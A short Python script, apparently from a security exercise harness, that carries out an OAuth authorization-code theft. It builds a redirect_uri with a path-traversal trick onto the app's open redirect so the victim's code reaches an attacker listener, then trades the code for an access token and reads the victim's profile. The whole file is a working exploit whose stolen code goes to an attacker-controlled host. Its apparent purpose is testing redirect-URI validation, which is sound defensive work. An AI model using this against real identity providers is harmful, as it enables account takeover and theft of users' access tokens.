"""The redirect that goes on: from the app's own address to our listener."""

from urllib.parse import quote, urlencode

import requests


def attack(exercise):
    listener = exercise.attacker.listen()
    to = quote(listener.url, safe="")
    redirect_uri = f"{exercise.app}/callback/../go?to={to}"
    request = {
        "response_type": "code",
        "client_id": exercise.client_id,
        "redirect_uri": redirect_uri,
    }

    authorize = f"{exercise.issuer}/connect/authorize"
    exercise.victim.opens(f"{authorize}?{urlencode(request)}")
    try:
        caught = listener.wait(2)
    except TimeoutError:
        return  # the victim was sent nowhere

    answer = requests.post(
        f"{exercise.issuer}/connect/token",
        data={
            "grant_type": "authorization_code",
            "code": caught["code"],
            "client_id": exercise.client_id,
            "redirect_uri": redirect_uri,
        },
    )
    if answer.ok:
        token = answer.json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
